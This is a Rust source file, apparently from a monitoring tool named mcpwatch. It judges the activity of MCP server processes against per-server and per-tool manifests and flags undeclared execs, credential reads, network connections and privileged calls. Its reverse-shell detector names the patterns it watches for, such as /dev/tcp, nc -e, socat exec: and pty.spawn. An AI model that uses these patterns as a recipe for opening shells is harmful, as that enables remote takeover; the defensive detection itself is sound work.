//! The engine: judges each activity of a watched process against its server's
//! manifest, the runtime baselines and the built-in rules. Pure: no I/O
//! besides what it is given; one state per server.

use crate::alerts::rules::{self, RuleId};
use std::{
    borrow::Cow,
    collections::{BTreeMap, BTreeSet, HashMap, HashSet, VecDeque},
    sync::Arc,
};

use serde_json::{Value, json};

use super::{
    activity::{
        Activity, ExecActivity, FileActivity, NetActivity, NetOp, ProcContext, Proto, RiskyActivity, RiskyOp, StdioKind,
    },
    baseline::{self, BaselinePaths, Runtime},
    catalog,
    glob::{GlobSet, PathGlob, name_matches},
    manifest::{ExePattern, Manifest, Outbound, ToolGrant, basename, expand, is_loopback},
    net::HostPattern,
};

/// What one rule found in one activity.
#[derive(Clone, Debug, PartialEq)]
pub struct Finding {
    pub rule: RuleId,
    pub summary: String,
    pub evidence: Value,
    pub declared: Option<Value>,
    /// What makes a repeat the same alert (rule and server are added).
    pub dedup_key: String,
}

/// How many written paths a server remembers for write-then-exec.
const WRITTEN_MAX: usize = 4096;

/// Whose grants an activity is judged against: the server's (`None`), or a
/// tool's (a call of a tool the manifest narrows is in flight).
type Scope<'a> = Option<&'a str>;

/// What the engine knows of one server.
pub struct ServerPolicy {
    pub manifest: Arc<Manifest>,
    /// No manifest was found: judged against the least-privilege default.
    pub undeclared: bool,
    runtimes: BTreeSet<Runtime>,
    bindings: BTreeMap<String, BTreeSet<String>>,
    home: String,
    paths: Option<Paths>,
    /// Pids whose next exec is the server's own launch (wrapper, rule match).
    launching: HashSet<u32>,
    /// Directories of the code the server was launched to run (`python
    /// server.py`, `node dist/index.js`): its own package tree.
    code_dirs: Vec<String>,
    /// Files the server wrote, oldest first.
    written: VecDeque<String>,
    written_set: HashSet<String>,
    /// Command line of the process that identified the server (re-binds on reload).
    pub root_exe: String,
    pub root_argv: Vec<String>,
}

/// Baseline, server-wide and per-tool paths, `~` and `${arg}` expanded.
struct Paths {
    base_read: Vec<PathGlob>,
    base_write: Vec<PathGlob>,
    server: Resolved,
    /// Tools that narrow `read` or `write`, built at their first call.
    tools: HashMap<String, Resolved>,
}

/// One grant's paths with the baseline.
struct Resolved {
    read: Vec<PathGlob>,
    write: Vec<PathGlob>,
    /// Everything readable (declared reads and writes, baseline), in one set.
    readable: GlobSet,
    /// Everything writable (declared writes, baseline), in one set.
    writable: GlobSet,
    /// Whether a path is declared (readable, or writable when the flag is
    /// set), for the paths seen since the declaration was last resolved.
    verdicts: HashMap<(String, bool), bool>,
}

impl Resolved {
    fn new(read: Vec<PathGlob>, write: Vec<PathGlob>, base_read: &[PathGlob], base_write: &[PathGlob]) -> Self {
        Self {
            readable: GlobSet::new(read.iter().chain(&write).chain(base_read).chain(base_write)),
            writable: GlobSet::new(write.iter().chain(base_write)),
            read,
            write,
            verdicts: HashMap::new(),
        }
    }
}

impl ServerPolicy {
    pub fn new(manifest: Arc<Manifest>, undeclared: bool, home: String) -> Self {
        Self {
            manifest,
            undeclared,
            runtimes: BTreeSet::new(),
            bindings: BTreeMap::new(),
            home,
            paths: None,
            launching: HashSet::new(),
            code_dirs: Vec::new(),
            written: VecDeque::new(),
            written_set: HashSet::new(),
            root_exe: String::new(),
            root_argv: Vec::new(),
        }
    }

    /// A new manifest (reload): runtimes and launches stay, bindings are redone
    /// from the root command line.
    pub fn set_manifest(&mut self, manifest: Arc<Manifest>, undeclared: bool) {
        self.manifest = manifest;
        self.undeclared = undeclared;
        self.bindings.clear();
        let (exe, argv) = (self.root_exe.clone(), self.root_argv.clone());
        self.learn(&exe, &argv, None);
        self.paths = None;
    }

    /// `pid` was put under watch: its next exec launches the server.
    pub fn launching(&mut self, pid: u32, exe: &str, argv: &[String], cwd: Option<&str>) {
        self.launching.insert(pid);
        if self.root_exe.is_empty() {
            self.root_exe = exe.to_owned();
            self.root_argv = argv.to_vec();
        }
        self.learn(exe, argv, cwd);
    }

    /// Runtimes and argument values a command line shows.
    fn learn(&mut self, exe: &str, argv: &[String], cwd: Option<&str>) {
        for r in Runtime::detect(exe, argv) {
            if self.runtimes.insert(r) {
                self.paths = None;
            }
        }
        for (k, v) in self.manifest.bind_args(argv, cwd.map(std::path::Path::new)) {
            if self.bindings.entry(k).or_default().insert(v) {
                self.paths = None;
            }
        }
    }

    /// Path patterns expanded with the owner's home and the bound arguments.
    fn globs(&self, list: &[String]) -> Vec<PathGlob> {
        let bindings = &self.bindings;
        let values = |n: &str| bindings.get(n).map(|s| s.iter().cloned().collect()).unwrap_or_default();
        list.iter()
            .flat_map(|p| expand(p, &self.home, &values))
            .filter_map(|p| PathGlob::new(&p).ok())
            .collect()
    }

    /// The paths of a scope: the server's, or a tool's when it narrows
    /// `read` or `write` (the other falls back to the server's).
    fn resolved(&mut self, scope: Scope<'_>) -> &mut Resolved {
        if self.paths.is_none() {
            let runtimes: Vec<Runtime> = self.runtimes.iter().copied().collect();
            let mut base = BaselinePaths::build(&runtimes, &self.home);
            base.read
                .extend(self.code_dirs.iter().filter_map(|d| PathGlob::new(d).ok()));
            let (read, write) = (self.globs(&self.manifest.read), self.globs(&self.manifest.write));
            self.paths = Some(Paths {
                server: Resolved::new(read, write, &base.read, &base.write),
                base_read: base.read,
                base_write: base.write,
                tools: HashMap::new(),
            });
        }
        let narrowed = scope.filter(|t| {
            self.manifest
                .tools
                .get(*t)
                .is_some_and(|g| g.read.is_some() || g.write.is_some())
        });
        let Some(tool) = narrowed else {
            return &mut self.paths.as_mut().expect("built").server;
        };
        if !self.paths.as_ref().expect("built").tools.contains_key(tool) {
            let m = self.manifest.clone();
            let g = &m.tools[tool];
            let read = self.globs(g.read.as_deref().unwrap_or(&m.read));
            let write = self.globs(g.write.as_deref().unwrap_or(&m.write));
            let p = self.paths.as_mut().expect("built");
            let r = Resolved::new(read, write, &p.base_read, &p.base_write);
            p.tools.insert(tool.to_owned(), r);
        }
        self.paths
            .as_mut()
            .expect("built")
            .tools
            .get_mut(tool)
            .expect("inserted")
    }

    /// The grants `ctx`'s activity is judged against: `[None]` (server-wide)
    /// outside tool calls and during calls of tools the manifest does not
    /// narrow; else the tool of the call, or of every call in flight when
    /// there are several (the activity may belong to any of them, so it is
    /// allowed when one of their grants allows it).
    fn scopes<'c>(&self, ctx: &'c ProcContext) -> Cow<'c, [Scope<'c>]> {
        // Every event of a watched process comes here: no allocation unless a narrowed tool's call is in flight.
        const SERVER_WIDE: &[Scope<'static>] = &[None];
        let Some(tool) = ctx.tool.as_deref() else {
            return Cow::Borrowed(SERVER_WIDE);
        };
        if self.manifest.tools.is_empty() {
            return Cow::Borrowed(SERVER_WIDE);
        }
        let mut tools: Vec<&str> = if ctx.tools_in_flight.is_empty() {
            vec![tool]
        } else {
            ctx.tools_in_flight.iter().map(String::as_str).collect()
        };
        tools.sort_unstable();
        tools.dedup();
        if tools.iter().any(|t| !self.manifest.tools.contains_key(*t)) {
            return Cow::Borrowed(SERVER_WIDE);
        }
        Cow::Owned(tools.into_iter().map(Some).collect())
    }

    fn tool_grant(&self, scope: Scope<'_>) -> Option<&ToolGrant> {
        scope.and_then(|t| self.manifest.tools.get(t))
    }

    fn exec_grant(&self, scope: Scope<'_>) -> &[ExePattern] {
        self.tool_grant(scope)
            .and_then(|g| g.exec.as_deref())
            .unwrap_or(&self.manifest.exec)
    }

    fn outbound_grant(&self, scope: Scope<'_>) -> &Outbound {
        self.tool_grant(scope)
            .and_then(|g| g.outbound.as_ref())
            .unwrap_or(&self.manifest.outbound)
    }

    fn inbound_grant(&self, scope: Scope<'_>) -> &[HostPattern] {
        self.tool_grant(scope)
            .and_then(|g| g.inbound.as_deref())
            .unwrap_or(&self.manifest.inbound)
    }

    /// `declared` of an alert: the grant that applied, as written, naming
    /// the tool when it was a tool's (`fields` of the manifest to show).
    fn declared_of(&self, scopes: &[Scope<'_>], ctx: &ProcContext, fields: &[&str]) -> Value {
        let tool = scopes[0].and(ctx.tool.as_deref());
        let spec = tool.and_then(|t| self.manifest.raw.tools.get(t));
        let raw = &self.manifest.raw;
        let mut out = serde_json::Map::new();
        for f in fields {
            let v = match *f {
                "read" => json!(spec.and_then(|s| s.read.as_ref()).unwrap_or(&raw.read)),
                "write" => json!(spec.and_then(|s| s.write.as_ref()).unwrap_or(&raw.write)),
                "network" => {
                    let net = spec.and_then(|s| s.network.as_ref());
                    json!({
                        "outbound": net.and_then(|n| n.outbound.as_ref()).unwrap_or(&raw.network.outbound),
                        "inbound": net.and_then(|n| n.inbound.as_ref()).unwrap_or(&raw.network.inbound),
                    })
                }
                "listen" => json!(raw.listen),
                "exec" => {
                    let runtimes: Vec<Runtime> = self.runtimes.iter().copied().collect();
                    json!(baseline::describe_exec(self.exec_grant(tool), &runtimes))
                }
                _ => continue,
            };
            out.insert((*f).to_owned(), v);
        }
        if let Some(t) = tool {
            out.insert("tool".into(), json!(t));
        }
        Value::Object(out)
    }

    pub fn evaluate(&mut self, ctx: &ProcContext, act: &Activity) -> Vec<Finding> {
        match act {
            Activity::Exec(e) => self.exec(ctx, e).into_iter().collect(),
            Activity::File(f) => self.file(ctx, f),
            Activity::Net(n) => self.net(ctx, n).into_iter().collect(),
            Activity::Risky(r) => risky(ctx, r).into_iter().collect(),
        }
    }

    fn exec(&mut self, ctx: &ProcContext, e: &ExecActivity) -> Option<Finding> {
        let exec_path = e.interp.clone().unwrap_or_else(|| e.filename.clone());
        let (program, argv) = baseline::unwrap_env(&exec_path, &e.argv);
        let (program, argv) = (program.to_owned(), argv.to_vec());
        let launch = self.launching.remove(&ctx.pid);
        let runtimes_before: Vec<Runtime> = self.runtimes.iter().copied().collect();
        self.learn(&program, &argv, ctx.cwd.as_deref());
        let evidence = json!({
            "program": program,
            "filename": e.filename,
            "interp": e.interp,
            "argv": e.argv,
        });
        let finding = |rule: RuleId, summary: String, declared: Option<Value>| Finding {
            rule,
            summary,
            evidence: evidence.clone(),
            declared,
            dedup_key: program.clone(),
        };
        if e.fileless {
            return Some(finding(
                &rules::EXEC_FILELESS,
                format!("{} ran a program from memory ({})", ctx.server, e.filename),
                None,
            ));
        }
        let shellish = is_shell(&program) || is_interpreter(&program);
        if shellish && (e.stdio.iter().flatten().any(|s| *s == StdioKind::Socket) || reverse_shell_argv(&e.argv)) {
            let mut f = finding(
                &rules::EXEC_REVERSE_SHELL,
                format!(
                    "{} started a shell wired to the network: {}",
                    ctx.server,
                    e.argv.join(" ")
                ),
                None,
            );
            f.evidence["stdio"] = json!(e.stdio.iter().map(stdio_name).collect::<Vec<_>>());
            return Some(f);
        }
        // The host's own command (wrapper, rule match) is what was configured.
        if launch {
            if shellish {
                self.learn_code_dir(&argv, ctx.cwd.as_deref());
            }
            return None;
        }
        let written = e.written_by_server
            || self.written_set.contains(&e.filename)
            || (shellish && crate::pipeline::observe::script_arg(&argv).is_some_and(|a| self.written_set.contains(a)));
        if written {
            return Some(finding(
                &rules::EXEC_WRITE_THEN_EXEC,
                format!("{} ran a file it had just written: {}", ctx.server, e.filename),
                None,
            ));
        }
        let in_grant = |list: &[ExePattern]| {
            list.iter()
                .any(|p| p.matches(&e.filename) || p.matches(&exec_path) || p.matches(&program))
        };
        let scopes = self.scopes(ctx);
        if scopes.iter().any(|s| in_grant(self.exec_grant(*s)))
            || baseline::exec_allowed_after_launch(&runtimes_before, &program)
        {
            return None;
        }
        if is_shell(&program) {
            let parent_exe = ctx.ancestry.first().map(|(_, x)| x.as_str()).unwrap_or("");
            if baseline::npx_shell(&e.argv, parent_exe, &ctx.parent_argv) {
                return None;
            }
        }
        let declared = Some(self.declared_of(&scopes, ctx, &["exec"]));
        if scopes[0].is_some() && in_grant(&self.manifest.exec) {
            let mut f = finding(
                &rules::TOOL_EXEC_OUTSIDE_GRANT,
                format!(
                    "{} ran a program outside {}: {}",
                    ctx.server,
                    grant_words(&scopes),
                    program
                ),
                declared,
            );
            f.dedup_key = tool_key(ctx, &program);
            return Some(f);
        }
        if is_shell(&program) {
            return Some(finding(
                &rules::EXEC_SHELL,
                format!("{} started a shell: {}", ctx.server, e.argv.join(" ")),
                declared,
            ));
        }
        Some(finding(
            &rules::EXEC_UNDECLARED,
            format!("{} ran an undeclared program: {}", ctx.server, program),
            declared,
        ))
    }

    /// Whether a scope's grant and the baseline cover `path` (for writing, or reading).
    fn declares(&mut self, scope: Scope<'_>, path: &str, writes: bool) -> bool {
        let r = self.resolved(scope);
        if let Some(v) = r.verdicts.get(&(path.to_owned(), writes)) {
            return *v;
        }
        let v = if writes {
            r.writable.matches(path)
        } else {
            r.readable.matches(path)
        };
        if r.verdicts.len() >= WRITTEN_MAX {
            r.verdicts.clear();
        }
        r.verdicts.insert((path.to_owned(), writes), v);
        v
    }

    /// The directory of the script an interpreter was launched with.
    fn learn_code_dir(&mut self, argv: &[String], cwd: Option<&str>) {
        let Some(script) = crate::pipeline::observe::script_arg(argv) else {
            return;
        };
        let p = match cwd {
            Some(c) if !script.starts_with('/') => std::path::Path::new(c).join(script),
            _ => std::path::PathBuf::from(script),
        };
        let Ok(real) = std::fs::canonicalize(&p) else { return };
        if !real.is_file() {
            return;
        }
        if let Some(dir) = real.parent().map(|d| d.to_string_lossy().into_owned())
            && dir != "/"
            && !self.code_dirs.contains(&dir)
        {
            self.code_dirs.push(dir);
            self.paths = None;
        }
    }

    fn remember_write(&mut self, path: &str) {
        if self.written_set.insert(path.to_owned()) {
            self.written.push_back(path.to_owned());
            if self.written.len() > WRITTEN_MAX
                && let Some(old) = self.written.pop_front()
            {
                self.written_set.remove(&old);
            }
        }
    }

    /// Whether a scope's grant names a credential location explicitly
    /// (a broad `~/**` does not declare `~/.ssh`).
    fn names_credential(&mut self, scope: Scope<'_>, path: &str, markers: &[&str]) -> bool {
        let r = self.resolved(scope);
        r.read
            .iter()
            .chain(r.write.iter())
            .any(|g| g.matches(path) && markers.iter().any(|m| g.text.contains(m)))
    }

    /// Whether a scope allows a successful file access.
    fn file_allowed(&mut self, scope: Scope<'_>, ctx: &ProcContext, f: &FileActivity, path: &str) -> bool {
        let writes = f.writes();
        self.declares(scope, path, writes)
            || (!writes
                && f.directory
                && (is_ancestor_of_declared(path, self.resolved(scope))
                    // Interpreters list their working directory (Python's sys.path[0]).
                    || ctx.cwd.as_deref() == Some(path)))
    }

    fn file(&mut self, ctx: &ProcContext, f: &FileActivity) -> Vec<Finding> {
        let mut paths = vec![own_proc(&f.path, ctx.pid)];
        if let Some(p2) = &f.path2 {
            paths.push(own_proc(p2, ctx.pid));
        }
        // Another process's memory, environment or maps come as risky events.
        if paths.iter().any(|p| other_proc_sensitive(p)) {
            return Vec::new();
        }
        let writes = f.writes();
        if writes && f.succeeded() {
            for p in &paths {
                self.remember_write(p);
            }
        }
        let scopes = self.scopes(ctx);
        let narrowed = scopes[0].is_some();
        const FILE_GRANTS: &[&str] = &["read", "write"];
        let evidence = |path: &str| {
            json!({
                "op": f.op.name(),
                "path": path,
                "path2": f.path2,
                "access": if writes { "write" } else { "read" },
                "result": f.result,
            })
        };
        let (tool_rule, verb) = if writes {
            (&rules::TOOL_WRITE_OUTSIDE_GRANT, "wrote")
        } else {
            (&rules::TOOL_READ_OUTSIDE_GRANT, "read")
        };
        let outside_tool = |path: &str, evidence: Value, declared: Value| Finding {
            rule: tool_rule,
            summary: format!("{} {verb} outside {}: {path}", ctx.server, grant_words(&scopes)),
            evidence,
            declared: Some(declared),
            dedup_key: tool_key(ctx, path),
        };
        let mut out = Vec::new();
        for path in &paths {
            if let Some(kind) = catalog::classify(path) {
                let explicit = scopes.iter().any(|s| self.names_credential(*s, path, kind.markers));
                if !explicit && !baseline::runtime_reads_credential(kind.rule, &ctx.exe, &ctx.argv) {
                    let mut e = evidence(path);
                    e["credential"] = json!(kind.what);
                    let declared = self.declared_of(&scopes, ctx, FILE_GRANTS);
                    if narrowed && self.names_credential(None, path, kind.markers) {
                        out.push(outside_tool(path, e, declared));
                    } else {
                        out.push(Finding {
                            rule: rules::credential(kind.rule),
                            summary: format!("{} accessed {}: {path}", ctx.server, kind.what),
                            evidence: e,
                            declared: Some(declared),
                            dedup_key: path.clone(),
                        });
                    }
                }
                continue;
            }
            // A failed access touched nothing (probing credentials is the exception, above).
            if !f.succeeded() {
                continue;
            }
            // An interpreter reading the script it was started with: judged at its exec.
            if !writes && runs_script(ctx, path) {
                continue;
            }
            if scopes.iter().any(|s| self.file_allowed(*s, ctx, f, path)) {
                continue;
            }
            let declared = self.declared_of(&scopes, ctx, FILE_GRANTS);
            if narrowed && self.file_allowed(None, ctx, f, path) {
                out.push(outside_tool(path, evidence(path), declared));
                continue;
            }
            let rule = if writes {
                &rules::FILE_WRITE_UNDECLARED
            } else {
                &rules::FILE_READ_UNDECLARED
            };
            out.push(Finding {
                rule,
                summary: format!("{} {verb} an undeclared path: {path}", ctx.server),
                evidence: evidence(path),
                declared: Some(declared),
                dedup_key: path.clone(),
            });
        }
        out
    }

    /// Whether a scope allows a connection (or datagram) to `addr`.
    fn connect_allowed(&self, scope: Scope<'_>, n: &NetActivity, addr: &std::net::IpAddr) -> bool {
        let o = self.outbound_grant(scope);
        let transport_ok = o.transports.is_empty()
            || o.transports.iter().any(|t| match n.proto {
                Proto::Tcp => t == "tcp",
                Proto::Udp => t == "udp",
                Proto::Other => false,
            });
        o.all
            || (transport_ok
                && o.hosts.iter().any(|h| {
                    h.matches_host(Some(addr), n.hostname.as_deref())
                        && match h.port {
                            Some(p) => p == n.port,
                            None => o.ports.is_empty() || o.ports.contains(&n.port),
                        }
                }))
    }

    fn unix_allowed(&mut self, scope: Scope<'_>, path: &str) -> bool {
        let r = self.resolved(scope);
        r.read.iter().chain(r.write.iter()).any(|g| g.matches(path))
    }

    fn accept_allowed(&self, scope: Scope<'_>, addr: Option<&std::net::IpAddr>) -> bool {
        let inbound = self.inbound_grant(scope);
        inbound.is_empty() || addr.is_some_and(|a| inbound.iter().any(|h| h.matches_host(Some(a), None)))
    }

    fn net(&mut self, ctx: &ProcContext, n: &NetActivity) -> Option<Finding> {
        let scopes = self.scopes(ctx);
        let narrowed = scopes[0].is_some();
        let addr = n.addr.map(|a| super::net::normalise(&a));
        let evidence = json!({
            "op": n.op.name(),
            "proto": match n.proto { Proto::Tcp => "tcp", Proto::Udp => "udp", Proto::Other => "other" },
            "address": addr.map(|a| a.to_string()),
            "port": n.port,
            "hostname": n.hostname,
            "unix_path": n.unix_path,
            "result": n.result,
        });
        let target = match (&n.unix_path, addr) {
            (Some(u), _) => u.clone(),
            (None, Some(a)) => format!("{a}:{}", n.port),
            (None, None) => String::new(),
        };
        // Built only for an alert: most connections are declared.
        let declared = |s: &Self| Some(s.declared_of(&scopes, ctx, &["network", "listen"]));
        let finding = |s: &Self, rule: RuleId, summary: String| Finding {
            rule,
            summary,
            evidence: evidence.clone(),
            declared: declared(s),
            dedup_key: target.clone(),
        };
        let outside_tool = |s: &Self, what: &str, to: &str| Finding {
            dedup_key: tool_key(ctx, &target),
            ..finding(
                s,
                &rules::TOOL_NET_OUTSIDE_GRANT,
                format!("{} {what} outside {}: {to}", ctx.server, grant_words(&scopes)),
            )
        };
        match n.op {
            NetOp::Connect | NetOp::SendTo => {
                if let Some(u) = &n.unix_path {
                    if baseline::unix_allowed(u) || scopes.iter().any(|s| self.unix_allowed(*s, u)) {
                        return None;
                    }
                    if narrowed && self.unix_allowed(None, u) {
                        return Some(outside_tool(self, "connected to a unix socket", u));
                    }
                    return Some(finding(
                        self,
                        &rules::NET_CONNECT_UNDECLARED,
                        format!("{} connected to an undeclared unix socket: {u}", ctx.server),
                    ));
                }
                let addr = addr?;
                let runtimes: Vec<Runtime> = self.runtimes.iter().copied().collect();
                if scopes.iter().any(|s| self.connect_allowed(*s, n, &addr))
                    || baseline::outbound_allowed(&runtimes, Some(&addr), n.hostname.as_deref(), n.port)
                {
                    return None;
                }
                let to = n
                    .hostname
                    .clone()
                    .map(|h| format!("{h} ({target})"))
                    .unwrap_or(target.clone());
                if narrowed && self.connect_allowed(None, n, &addr) {
                    return Some(outside_tool(self, "connected", &to));
                }
                Some(finding(
                    self,
                    &rules::NET_CONNECT_UNDECLARED,
                    format!("{} connected to an undeclared destination: {to}", ctx.server),
                ))
            }
            NetOp::Listen => {
                if self.manifest.listen.iter().any(|l| l.matches(addr.as_ref(), n.port)) {
                    return None;
                }
                let exposed = n.exposed || addr.is_some_and(|a| !is_loopback(&a));
                if exposed {
                    Some(finding(
                        self,
                        &rules::NET_LISTEN_EXPOSED,
                        format!("{} listens on a non-loopback address: {target}", ctx.server),
                    ))
                } else {
                    Some(finding(
                        self,
                        &rules::NET_LISTEN_UNDECLARED,
                        format!("{} listens on an undeclared address: {target}", ctx.server),
                    ))
                }
            }
            NetOp::Accept => {
                if scopes.iter().any(|s| self.accept_allowed(*s, addr.as_ref())) {
                    return None;
                }
                if narrowed && self.accept_allowed(None, addr.as_ref()) {
                    return Some(outside_tool(self, "accepted a connection", &target));
                }
                Some(finding(
                    self,
                    &rules::NET_ACCEPT_UNDECLARED,
                    format!("{} accepted a connection from an undeclared peer: {target}", ctx.server),
                ))
            }
            NetOp::Bind => None,
        }
    }
}

/// What makes a repeat of a tool rule the same alert: the tool too (the same
/// path read outside two tools' grants is two findings).
fn tool_key(ctx: &ProcContext, key: &str) -> String {
    format!("{}\u{0}{key}", ctx.tool.as_deref().unwrap_or(""))
}

/// "tool `x`'s grant", or "the grants of tools `x`, `y` (calls in flight)".
fn grant_words(scopes: &[Scope<'_>]) -> String {
    let tools: Vec<String> = scopes.iter().flatten().map(|t| format!("`{t}`")).collect();
    match tools.as_slice() {
        [one] => format!("tool {one}'s grant"),
        many => format!("the grants of tools {} (calls in flight)", many.join(", ")),
    }
}

/// Risky operations: no manifest field declares them.
fn risky(ctx: &ProcContext, r: &RiskyActivity) -> Option<Finding> {
    let rule = match r.op {
        // A process reading its own memory or maps is ordinary.
        RiskyOp::ProcMem | RiskyOp::ProcEnviron | RiskyOp::ProcMaps | RiskyOp::ProcessVmReadv
            if r.target_pid == Some(ctx.pid) =>
        {
            return None;
        }
        RiskyOp::Ptrace => &rules::PROC_PTRACE,
        RiskyOp::ProcessVmReadv | RiskyOp::ProcessVmWritev | RiskyOp::ProcMem => &rules::PROC_MEMORY,
        RiskyOp::ProcEnviron => &rules::PROC_ENVIRON,
        RiskyOp::ProcMaps => &rules::PROC_MAPS,
        RiskyOp::SetUid | RiskyOp::SetGid | RiskyOp::Capset => &rules::PRIV_SETID,
        RiskyOp::InitModule => &rules::PRIV_KERNEL_MODULE,
        RiskyOp::Bpf => &rules::PRIV_BPF,
        RiskyOp::Mount => &rules::PRIV_MOUNT,
        RiskyOp::IoUringSetup => &rules::EVASION_IO_URING,
    };
    let target = r.target_pid.map(|p| format!(" on pid {p}")).unwrap_or_default();
    Some(Finding {
        rule,
        summary: format!("{} called {}{target}", ctx.server, r.op.name()),
        evidence: json!({ "op": r.op.name(), "target_pid": r.target_pid }),
        declared: None,
        dedup_key: format!("{}:{:?}", r.op.name(), r.target_pid),
    })
}

/// Whether `path` is the script the acting process (a shell or interpreter)
/// was started to run.
fn runs_script(ctx: &ProcContext, path: &str) -> bool {
    (is_shell(&ctx.exe) || is_interpreter(&ctx.exe))
        && crate::pipeline::observe::script_arg(&ctx.argv).is_some_and(|s| {
            s == path
                || ctx
                    .cwd
                    .as_deref()
                    .is_some_and(|c| crate::pipeline::observe::normalize(&format!("{c}/{s}")) == path)
        })
}

/// `/proc/PID/...` of the acting process is its own (`/proc/self`).
fn own_proc(path: &str, pid: u32) -> String {
    if let Some(rest) = path.strip_prefix("/proc/") {
        let (n, tail) = rest.split_once('/').unwrap_or((rest, ""));
        if n == pid.to_string() {
            return if tail.is_empty() {
                "/proc/self".into()
            } else {
                format!("/proc/self/{tail}")
            };
        }
        // Threads of the process: /proc/PID/task/TID/... is still its own.
    }
    path.to_owned()
}

fn other_proc_sensitive(path: &str) -> bool {
    let Some(rest) = path.strip_prefix("/proc/") else {
        return false;
    };
    let mut parts = rest.split('/');
    let pid = parts.next().unwrap_or("");
    pid.chars().all(|c| c.is_ascii_digit())
        && !pid.is_empty()
        && matches!(parts.next(), Some("mem" | "environ" | "maps"))
}

/// A directory above a declared path (listing on the way to it).
fn is_ancestor_of_declared(dir: &str, r: &Resolved) -> bool {
    let dir = dir.trim_end_matches('/');
    let prefix = format!("{dir}/");
    r.read
        .iter()
        .chain(r.write.iter())
        .any(|g| dir.is_empty() || g.text.starts_with(&prefix) || g.text == dir)
}

pub fn is_shell(program: &str) -> bool {
    name_matches(
        "{sh,bash,dash,zsh,ksh,mksh,ash,fish,csh,tcsh,busybox}",
        basename(program),
    )
}

fn is_interpreter(program: &str) -> bool {
    name_matches(
        "{python,python2,python3,python3.*,perl,ruby,php,node,nodejs,nc,ncat,netcat,socat,telnet,awk,gawk,lua}",
        basename(program),
    )
}

/// Command lines that are reverse shells whatever their fds.
fn reverse_shell_argv(argv: &[String]) -> bool {
    let joined = argv.join(" ");
    let lower = joined.to_ascii_lowercase();
    let prog = argv.first().map(|a| basename(a)).unwrap_or("");
    lower.contains("/dev/tcp/")
        || lower.contains("/dev/udp/")
        || (name_matches("{nc,ncat,netcat}", prog) && argv.iter().any(|a| a == "-e" || a == "-c"))
        || (prog == "socat" && (lower.contains("exec:") || lower.contains("system:")))
        || lower.contains("pty.spawn")
        || (lower.contains("socket") && lower.contains("dup2"))
}

fn stdio_name(s: &Option<StdioKind>) -> Value {
    match s {
        None => Value::Null,
        Some(StdioKind::File(p)) => json!(p),
        Some(StdioKind::Pipe) => json!("pipe"),
        Some(StdioKind::Socket) => json!("socket"),
        Some(StdioKind::LocalSocket) => json!("unix_socket"),
        Some(StdioKind::Tty) => json!("tty"),
        Some(StdioKind::Other) => json!("other"),
    }
}

/// Every server's state, and the manifests they are judged against.
#[derive(Default)]
pub struct Engine {
    manifests: Vec<Arc<Manifest>>,
    servers: HashMap<String, ServerPolicy>,
}

impl Engine {
    /// The manifest for a server: by name (or `match.server`), else by the
    /// command line that identified it.
    pub fn find(&self, server: &str, exe: &str, argv: &[String]) -> Option<Arc<Manifest>> {
        self.manifests
            .iter()
            .find(|m| m.is_for_server(server))
            .or_else(|| self.manifests.iter().find(|m| m.matches_process(exe, argv)))
            .cloned()
    }

    pub fn manifests(&self) -> &[Arc<Manifest>] {
        &self.manifests
    }

    /// Swaps the manifest set in one step (reload): servers are re-bound.
    pub fn set_manifests(&mut self, manifests: Vec<Arc<Manifest>>) {
        self.manifests = manifests;
        let names: Vec<String> = self.servers.keys().cloned().collect();
        for name in names {
            let (exe, argv) = {
                let s = &self.servers[&name];
                (s.root_exe.clone(), s.root_argv.clone())
            };
            let found = self.find(&name, &exe, &argv);
            let s = self.servers.get_mut(&name).expect("listed");
            match found {
                Some(m) => s.set_manifest(m, false),
                None => s.set_manifest(Arc::new(Manifest::least_privilege(&name)), true),
            }
        }
    }

    /// A process was put under watch as `server` (wrapper, rule, scan).
    /// Returns true when the server is new and has no manifest.
    pub fn on_watch(
        &mut self,
        server: &str,
        pid: u32,
        uid: u32,
        exe: &str,
        argv: &[String],
        cwd: Option<&str>,
    ) -> bool {
        let mut fresh = false;
        if !self.servers.contains_key(server) {
            let (m, undeclared) = match self.find(server, exe, argv) {
                Some(m) => (m, false),
                None => (Arc::new(Manifest::least_privilege(server)), true),
            };
            self.servers
                .insert(server.to_owned(), ServerPolicy::new(m, undeclared, home_of(uid)));
            fresh = undeclared;
        }
        let s = self.servers.get_mut(server).expect("inserted");
        s.launching(pid, exe, argv, cwd);
        fresh
    }

    pub fn server(&self, name: &str) -> Option<&ServerPolicy> {
        self.servers.get(name)
    }

    /// Every server seen, with the manifest it is judged against.
    pub fn servers(&self) -> impl Iterator<Item = (&str, &ServerPolicy)> {
        self.servers.iter().map(|(n, s)| (n.as_str(), s))
    }

    /// Judges one activity; a server never announced is set up on the fly.
    pub fn evaluate(&mut self, ctx: &ProcContext, act: &Activity) -> (Vec<Finding>, Option<Arc<Manifest>>, bool) {
        let mut fresh = false;
        if !self.servers.contains_key(&ctx.server) {
            fresh = self.on_watch(&ctx.server, 0, ctx.uid, &ctx.exe, &ctx.argv, ctx.cwd.as_deref());
        }
        let s = self.servers.get_mut(&ctx.server).expect("present");
        let findings = s.evaluate(ctx, act);
        (findings, Some(s.manifest.clone()), fresh)
    }

    /// Forgets a server (its last process exited).
    pub fn forget(&mut self, server: &str) {
        self.servers.remove(server);
    }
}

/// The home directory `~` stands for: the process owner's.
fn home_of(uid: u32) -> String {
    nix::unistd::User::from_uid(nix::unistd::Uid::from_raw(uid))
        .ok()
        .flatten()
        .map(|u| u.dir.to_string_lossy().into_owned())
        .unwrap_or_else(|| "/nonexistent".into())
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::policy::{
        activity::{FileOp, NetOp, Proto},
        test_argv as argv,
    };

    fn manifest(text: &str) -> Arc<Manifest> {
        Arc::new(Manifest::parse(Path::new("/m/srv.json"), text).expect("valid manifest"))
    }

    /// A server `srv` launched by the wrapper as `launch`, judged against `text`.
    fn server(text: &str, launch: &[&str]) -> (ServerPolicy, ProcContext) {
        let mut s = ServerPolicy::new(manifest(text), false, "/home/u".into());
        let a = argv(launch);
        s.launching(
            10,
            "/usr/local/bin/mcpwatch",
            &argv(&["mcpwatch", "exec", "--server", "srv", "--"]),
            None,
        );
        let ctx = ProcContext {
            server: "srv".into(),
            pid: 10,
            ppid: 1,
            uid: 1000,
            exe: a[0].clone(),
            argv: a.clone(),
            ..Default::default()
        };
        let launched = s.evaluate(&ctx, &exec(&a[0], &a));
        assert!(launched.is_empty(), "the launch is the host's command: {launched:?}");
        (
            s,
            ProcContext {
                pid: 11,
                ppid: 10,
                ..ctx
            },
        )
    }

    fn exec(path: &str, a: &[String]) -> Activity {
